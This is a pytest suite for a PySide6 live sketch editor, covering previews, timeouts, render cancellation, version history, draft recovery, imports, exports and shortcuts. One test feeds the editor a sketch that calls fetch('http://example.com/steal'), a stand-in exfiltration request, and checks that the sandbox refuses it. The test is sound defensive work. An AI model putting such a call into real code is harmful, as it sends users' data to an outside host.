"""The live editor with real renders: previews follow typing, errors land on their line, hangs time out
while the GUI keeps ticking, stale renders are cancelled, lineage round-trips and drafts survive a crash."""
from __future__ import annotations

import asyncio
import os
import time

from PySide6.QtCore import QTimer
from PySide6.QtGui import QImage, QTextCursor

from tests.db_helpers import sql_rows
from tests.studio.conftest import wait_until

PAINT = """function setup() {
  createCanvas(256, 256, WEBGL);
  background("#ff0000");
  brush.set("HB", "#202020", 2);
  brush.line(-90, -90, 90, 90);
  noLoop();
}
"""


def centre_rgb(png: bytes) -> tuple[int, int, int]:
    img = QImage.fromData(png, "PNG")
    c = img.pixelColor(img.width() // 8, img.height() // 2)  # off the diagonal line
    return c.red(), c.green(), c.blue()


def final_outcome(pane, code: str):
    out = pane.last_outcome
    return out if out is not None and not out.draft and out.request.code == code else None


async def shown(pane, code: str, timeout: float = 90.0):  # generous: a test machine may be at load 40
    """Wait until the preview shows the result of exactly this code."""
    return await wait_until(lambda: final_outcome(pane, code), timeout, f"a render of {code[:40]!r}")


async def checked(pane, timeout: float = 30.0) -> None:
    """Wait until the static check of the editor's current text is on screen (its marks and check line)."""
    await wait_until(lambda: pane.checked_code == pane.text, timeout, "the static check of the current text")


def select(pane, needle: str) -> None:
    text = pane.text
    start = text.index(needle)
    cur = pane.code.textCursor()
    cur.setPosition(start)
    cur.setPosition(start + len(needle), QTextCursor.MoveMode.KeepAnchor)
    pane.code.setTextCursor(cur)


def test_typing_renders_a_new_preview(make_editor, arun, qtbot, artifacts):
    pane = make_editor()
    pane.code.setPlainText(PAINT)

    async def body():
        first = await shown(pane, PAINT)
        assert first.result.ok, first.result.error
        assert centre_rgb(pane.preview.png)[0] > 200  # red background
        serial = pane.preview.serial
        select(pane, "ff0000")
        qtbot.keyClicks(pane.code, "0000ff")  # real keystrokes; each restarts the debounce
        new_code = PAINT.replace("ff0000", "0000ff")
        assert pane.text == new_code
        second = await shown(pane, new_code)
        assert second.result.ok
        assert pane.preview.serial > serial
        r, g, b = centre_rgb(pane.preview.png)
        assert b > 200 and r < 60, (r, g, b)
        await checked(pane)
        assert "brush ✓" in pane.check_label.text()
        pane.grab().save(str(artifacts / "screens" / "editor.png"))
    (artifacts / "screens").mkdir(parents=True, exist_ok=True)
    arun(body())


def test_error_marks_the_failing_line(make_editor, arun, artifacts):
    pane = make_editor()
    code = PAINT.replace('  brush.line(-90, -90, 90, 90);\n', '  brush.line(-90, -90, 90, 90);\n  undefinedThing(3);\n')

    async def body():
        pane.code.setPlainText(code)
        out = await shown(pane, code)
        assert not out.result.ok and out.result.error.kind == "runtime", out.result.error.message
        assert pane.code.error_line == 6, out.result.error
        assert pane.error_label.isVisible()
        assert "Line 6" in pane.error_label.text() and "undefinedThing" in pane.error_label.text()
        await checked(pane)  # the static check has its say too
        pane.grab().save(str(artifacts / "screens" / "editor-error.png"))
        pane.code.setPlainText(PAINT)  # fixing it clears the mark
        await shown(pane, PAINT)
        assert pane.code.error_line is None and not pane.error_label.isVisible()
    arun(body())


def test_hanging_sketch_times_out_and_gui_keeps_ticking(make_editor, arun):
    pane = make_editor()
    pane.live.timeout_s = 2.0
    hang = "function setup() {\n  createCanvas(128, 128, WEBGL);\n  while (true) {}\n}\n"
    ticks: list[float] = []
    timer = QTimer()
    timer.setInterval(10)
    timer.timeout.connect(lambda: ticks.append(time.perf_counter()))

    async def body():
        timer.start()
        t0 = time.perf_counter()
        pane.code.setPlainText(hang)
        out = await shown(pane, hang, timeout=20)
        elapsed = time.perf_counter() - t0
        timer.stop()
        # Stopped at 2 s of its own time; on a machine others crowd, the wall bound (4 × 2 s) can stop it
        # first, before it had its 2 s: that is the machine's fault (`overloaded`), and the editor says so.
        kind = out.result.error.kind
        assert kind in ("timeout", "overloaded"), out.result.error
        assert_render_failure_shown(pane, kind)
        assert 2.0 <= elapsed < 20.0  # the rest is the page being replaced on a busy machine
        gaps = [b - a for a, b in zip(ticks, ticks[1:], strict=False)]
        # The GUI thread never blocked: a 10 ms timer kept firing through the whole hang (at half its
        # rate on a quiet machine; a busy one, load > cores, schedules us less often: a quarter).
        rate = 0.5 if os.getloadavg()[0] < (os.cpu_count() or 1) else 0.25
        assert len(ticks) > elapsed / 0.010 * rate, len(ticks)
        # (a blocked thread would stall ~2 s; a machine at load 40 was seen to stall 360 ms by itself)
        assert max(gaps) < 0.6, f"longest stall {max(gaps) * 1000:.0f} ms"
    arun(body())


def assert_render_failure_shown(pane, kind: str) -> None:
    """A timeout is the sketch's failure (red, says so); `overloaded` is the machine's (amber, not blamed)."""
    from studio.panes.editor_parts import FAULT_COLOURS

    text, style, placeholder = pane.error_label.text(), pane.error_label.styleSheet(), pane.preview.placeholder
    assert pane.error_label.isVisibleTo(pane)
    if kind == "timeout":
        assert text.startswith("Timed out: the sketch ran for more than 2 s") and FAULT_COLOURS["sketch"] in style
        assert "the sketch failed" in placeholder
    else:
        assert text.startswith("The machine was too busy to finish this render (not the sketch's fault")
        assert FAULT_COLOURS["machine"] in style and "the sketch failed" not in placeholder
        assert "wall-time limit" in pane.error_label.toolTip()  # what was measured, beside the advice
        assert "not the sketch's fault" in placeholder and pane.code._error_line is None


def test_a_timeout_blames_the_sketch_and_an_overload_the_machine(make_editor, arun, artifacts):
    """Both answers a hanging sketch can honestly get, shown through the pane as a render brings them."""
    from core.render.types import RenderError, RenderResult
    from studio.panes.editor_live import RenderOutcome, RenderRequest

    pane = make_editor(renderer=None)
    pane.resize(900, 600)
    pane.live.timeout_s = 2.0
    hang = "function setup() {\n  createCanvas(128, 128, WEBGL);\n  while (true) {}\n}\n"
    pane.code.setPlainText(hang)
    errors = {"timeout": RenderError("timeout", "the sketch ran past its 2 s", line=3, column=3),
              "overloaded": RenderError("overloaded", "the render was stopped at its wall-time limit of 8 s "
                                        "after 1.1 s of its own time")}
    for kind, error in errors.items():
        result = RenderResult(ok=False, png=None, error=error, ms=8000.0, sketch_ms=None, width=128, height=128)
        pane._on_rendered(RenderOutcome(RenderRequest(hang, 1, 128), result, False, pane.live.generation, 0.0))
        assert_render_failure_shown(pane, kind)
        assert pane.code._error_line == (3 if kind == "timeout" else None)  # only the sketch's failure marks a line
        pane.grab().save(str(artifacts / f"editor_{kind}_900x600.png"))


def test_stale_renders_are_cancelled(make_editor, arun, qtbot):
    pane = make_editor()
    seen: list[str] = []
    pane.live.finished.connect(lambda o: seen.append(o.request.code))

    async def body():
        pane.code.setPlainText(PAINT)
        await shown(pane, PAINT)
        seen.clear()
        # Fast typing: keystrokes closer together than the debounce collapse into one render.
        gen0 = pane.live.generation
        select(pane, "ff0000")
        t0 = time.perf_counter()
        for ch in "00ff00":
            qtbot.keyClicks(pane.code, ch)
            await asyncio.sleep(0.01)
        typing_s = time.perf_counter() - t0
        green = PAINT.replace("ff0000", "00ff00")
        await shown(pane, green)
        if typing_s < pane.live.debounce_ms / 1000:  # on a starved machine the gaps can exceed it
            assert pane.live.generation == gen0 + 1, typing_s
        # Renders already in flight are cancelled when newer code arrives: only the last one is shown.
        codes = [PAINT.replace("ff0000", c) for c in ("111111", "222222", "0000ff")]
        before = pane.live.cancelled
        seen.clear()
        for code in codes:
            pane.code.setPlainText(code)
            pane.live.render_now()
            await asyncio.sleep(0)  # one turn: the render is under way when the next code arrives
        out = await shown(pane, codes[-1])
        assert pane.live.cancelled - before == 2
        assert seen == [codes[-1]]
        assert out.result.ok and centre_rgb(pane.preview.png)[2] > 200
    arun(body(), timeout=300)


def test_lineage_round_trip(make_editor, arun, store, artifacts):
    pane = make_editor()
    v2 = PAINT.replace("ff0000", "00ff00")
    v3 = v2.replace("-90, -90", "-60, -90")

    async def body():
        pane.code.setPlainText(PAINT)
        await pane.save_version()
        first = pane.sketch_id
        pane.code.setPlainText(v2)
        await pane.save_version()
        second = pane.sketch_id
        pane.code.setPlainText(v3)
        await pane.save_version()
        third = pane.sketch_id
        assert [s.id for s in store.lineage(third)] == [first, second, third]
        assert store.get_sketch(third).parent_id == second and store.get_sketch(third).source == "human"
        assert pane.history.ids() == [third, second, first]
        await wait_until(lambda: all(pane.history.has_thumbnail(i) for i in (first, second, third)), 180,
                         "three thumbnails")
        pane.history.select(second)
        diff = pane.diff_text()
        assert '-  background("#ff0000");' in diff and '+  background("#00ff00");' in diff
        (artifacts / "screens").mkdir(parents=True, exist_ok=True)
        pane.grab().save(str(artifacts / "screens" / "editor-history.png"))
        assert pane.save_version() is None  # nothing changed: no empty version
        pane.revert_to(first)
        assert pane.text == PAINT and pane.dirty and pane.sketch_id == third
        await pane.save_version()
        assert store.get_sketch(pane.sketch_id).parent_id == third
        assert store.get_sketch(pane.sketch_id).code == PAINT
    arun(body(), timeout=300)


def test_draft_survives_a_crash(make_editor, arun, store):
    pane = make_editor()

    async def body():
        pane.code.setPlainText(PAINT)
        await pane.save_version()
        sid = pane.sketch_id
        pane.code.moveCursor(QTextCursor.MoveOperation.End)
        pane.code.insertPlainText("// unsaved thought\n")
        await wait_until(lambda: store.load_draft(str(sid)), 5, "the autosaved draft")
        # "Crash": no shutdown, no save. A new pane on the same store opens the sketch again.
        again = make_editor()
        await again.open_sketch(sid)
        assert again.text.endswith("// unsaved thought\n")
        assert again.dirty and "Recovered unsaved edits from" in again.notice.label.text()
        # An unsaved new sketch comes back too.
        fresh = make_editor()
        fresh.code.setPlainText("// brand new\n" + PAINT)
        await wait_until(lambda: store.load_draft("new"), 5, "the 'new' draft")
        third = make_editor()  # reads its draft in the background (no SQLite on the GUI thread)
        await wait_until(lambda: third.text.startswith("// brand new"), 10, "the recovered draft")
        assert third.notice.isVisibleTo(third)
    arun(body())


def test_static_check_marks_unknown_brush_api(make_editor, arun):
    pane = make_editor(renderer=None)
    code = PAINT.replace('  noLoop();', '  brush.bleed(0.3);\n  noLoop();')

    async def body():
        pane.code.setPlainText(code)
        await wait_until(lambda: pane.last_check is not None and pane.last_check.unknown_apis, 10, "check")
        mark = pane.code.mark_at(6, 2)
        assert mark is not None and "bleed" in mark.message
        assert (mark.line, mark.column, mark.end_column) == (6, 2, 13)  # exactly "brush.bleed"
        assert pane.code.mark_at(5, 2) is None
        html = pane.check_label.text()
        assert "brush ✓" in html and "unknown: brush.bleed" in html and "tokens" in html
    arun(body())


def test_code_the_checker_cannot_follow_is_underlined_apart_from_errors(make_editor, arun, artifacts):
    from PySide6.QtGui import QTextCharFormat

    from studio.widgets.code_editor import MARK_COLOURS

    pane = make_editor(renderer=None)
    pane.resize(900, 600)
    code = PAINT.replace('  noLoop();', '  const how = ["circle", "rect"][floor(random(2))];\n'
                         '  brush[how](0, 0, 40);\n  brush.bleed(0.3);\n  noLoop();')

    async def body():
        pane.code.setPlainText(code)
        await wait_until(lambda: pane.last_check is not None and pane.last_check.cannot_check, 20, "check")
        found = pane.last_check.cannot_check[0]
        line = code.splitlines()[found.line - 1]
        assert found.line == 7 and line[found.column - 1:found.end_column - 1].startswith("brush[how]")
        blind = pane.code.mark_at(7, found.column - 1)
        assert blind is not None and blind.severity == "unchecked"
        assert blind.message.startswith("cannot check `brush[how]") and "Not an error" in blind.message
        error = pane.code.mark_at(8, 2)
        assert error is not None and error.severity == "error" and "bleed" in error.message
        # drawn apart: a dotted blue line under the blind spot, a red wave under the error
        styles = {}
        for sel in pane.code.extraSelections():
            if sel.format.underlineStyle() != QTextCharFormat.UnderlineStyle.NoUnderline:
                styles[sel.cursor.block().blockNumber() + 1] = (sel.format.underlineStyle(), sel.format.underlineColor())
        assert styles[7] == (QTextCharFormat.UnderlineStyle.DotLine, MARK_COLOURS["unchecked"])
        assert styles[8] == (QTextCharFormat.UnderlineStyle.WaveUnderline, MARK_COLOURS["error"])
        html = pane.check_label.text()
        assert "cannot check 1 place" in html and "unknown: brush.bleed" in html
        assert "cannot follow this code" in pane.check_label.toolTip()
        await asyncio.sleep(0.1)
        pane.grab().save(str(artifacts / "editor_cannot_check_900x600.png"))
    arun(body())


def test_draft_preview_comes_first_then_the_full_image(make_editor, arun):
    from core.paths import STARTERS

    pane = make_editor()
    pane.set_draft_first(True)
    code = (STARTERS / "06-charcoal-tree.js").read_text(encoding="utf-8")
    outs = []
    pane.live.finished.connect(outs.append)

    async def body():
        pane.code.setPlainText(code)
        pane.live.timeout_s = 60
        out = await shown(pane, code, timeout=90)
        assert out.result.ok and out.result.width == 512
        assert QImage.fromData(pane.preview.png, "PNG").width() == 512  # the full image is what stays
        assert [o.draft for o in outs] in ([True, False], [False])
        if outs[0].draft:
            assert QImage.fromData(outs[0].result.png, "PNG").width() == 256
    arun(body(), timeout=120)


def test_open_model_output_files_and_bad_files(make_editor, arun, store, tmp_path):
    pane = make_editor(renderer=None)
    answer = tmp_path / "answer.md"
    answer.write_text("Here is your painting:\n\n```js\n" + PAINT + "```\n\nEnjoy!\n", encoding="utf-8")
    cut = tmp_path / "cut.txt"
    cut.write_text("```javascript\nfunction setup() {\n  createCanvas(256, 256, WEBGL);\n  brush.line(0, 0,",
                   encoding="utf-8")
    binary = tmp_path / "image.js"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00" * 50)
    huge = tmp_path / "huge.js"
    huge.write_text("// x\n" * 300_000, encoding="utf-8")

    csv = tmp_path / "data.csv"
    csv.write_text("a,b\n1,2\n", encoding="utf-8")

    async def body():
        await pane.open_file(answer)
        assert pane.text.strip() == PAINT.strip() and pane.sketch_id is None and pane.dirty
        assert not sql_rows(store, "SELECT 1 FROM sketches")  # opening does not add it to the library
        assert "answer.md" in pane.toolbar.title.text()
        await pane.save_version()
        sk = store.get_sketch(pane.sketch_id)
        assert sk.source == "import" and sk.title == "answer.md" and sk.code == pane.text  # saved: now it is
        await pane.open_file(cut)
        assert pane.notice.kind == "warning" and "cut off" in pane.notice.label.text()
        before = pane.text
        await pane.open_file(binary)
        assert pane.notice.kind == "error" and "binary" in pane.notice.label.text()
        await pane.open_file(huge)
        assert pane.notice.kind == "error" and "MB" in pane.notice.label.text()
        await pane.open_file(csv)
        assert pane.notice.kind == "error" and ".csv" in pane.notice.label.text()
        assert pane.text == before  # nothing was opened
        assert len(sql_rows(store, "SELECT 1 FROM sketches")) == 1
        from studio.ops.sketches import list_starters
        starter = list_starters()[0]
        await pane.open_starter(starter)
        first = pane.sketch_id
        assert store.get_sketch(first).source == "starter" and store.get_sketch(first).title == starter.title
        await pane.open_starter(starter)
        assert pane.sketch_id == first  # a starter is added to the library once
    arun(body())


def test_export_js_html_png(make_editor, arun, tmp_path):
    pane = make_editor()

    async def body():
        pane.code.setPlainText(PAINT)
        await shown(pane, PAINT)
        await pane.export_to(tmp_path / "s.js")
        await pane.export_to(tmp_path / "s.html")
        await pane.export_to(tmp_path / "s.png")
        assert (tmp_path / "s.js").read_text(encoding="utf-8") == PAINT
        assert "brush.line(-90, -90, 90, 90)" in (tmp_path / "s.html").read_text(encoding="utf-8")
        assert QImage(str(tmp_path / "s.png")).width() == 512
    arun(body())


def test_locked_database_is_a_message_and_keeps_the_text(make_editor, arun, store):
    import sqlite3

    pane = make_editor(renderer=None)
    code = PAINT + "// precious edit\n"

    async def body():
        pane.code.setPlainText(code)
        other = sqlite3.connect(store.path, timeout=0.1, isolation_level=None)
        other.execute("BEGIN EXCLUSIVE")  # another program holds the write lock
        try:
            ticks = []
            from PySide6.QtCore import QTimer
            timer = QTimer()
            timer.timeout.connect(lambda: ticks.append(time.perf_counter()))
            timer.start(20)
            await pane.save_version()  # waits out SQLite's busy timeout in a worker thread
            timer.stop()
        finally:
            other.execute("ROLLBACK")
            other.close()
        assert pane.notice.kind == "error" and "locked" in pane.notice.label.text()
        assert pane.text == code and pane.sketch is None  # nothing typed is lost, nothing half-saved
        # The GUI kept running: on the GUI thread this save would freeze it for the 5 s busy timeout.
        assert max(b - a for a, b in zip(ticks, ticks[1:], strict=False)) < 1.5
        await pane.save_version()  # once the lock is gone, saving works
        assert store.get_sketch(pane.sketch_id).code == code
    arun(body(), timeout=60)


def test_sandbox_refusal_is_shown_plainly(make_editor, arun):
    pane = make_editor()
    code = ('function setup() {\n  createCanvas(128, 128, WEBGL);\n  background(200);\n'
            '  fetch("http://example.com/steal");\n  brush.line(-40, 0, 40, 0);\n}\n')

    async def body():
        pane.code.setPlainText(code)
        out = await shown(pane, code)
        assert out.result.error is not None and out.result.error.kind == "forbidden", out.result.error
        assert pane.error_label.text().startswith("Refused by the sandbox")
    arun(body())


def test_keyboard_shortcuts_save_render_and_seed(make_editor, arun, qtbot, store):
    from PySide6.QtCore import Qt
    from PySide6.QtTest import QTest

    pane = make_editor(renderer=None)
    pane.activateWindow()
    qtbot.waitUntil(pane.isActiveWindow, timeout=3000)
    pane.code.setFocus()

    async def body():
        pane.code.setPlainText(PAINT)
        QTest.keyClick(pane.code, Qt.Key.Key_S, Qt.KeyboardModifier.ControlModifier)
        await wait_until(lambda: pane.sketch_id is not None, 10, "Ctrl+S to save")
        assert store.get_sketch(pane.sketch_id).code == PAINT
        seed = pane.toolbar.seed.value()
        QTest.keyClick(pane.code, Qt.Key.Key_N,
                       Qt.KeyboardModifier.ControlModifier | Qt.KeyboardModifier.ShiftModifier)
        assert pane.toolbar.seed.value() != seed
    arun(body())
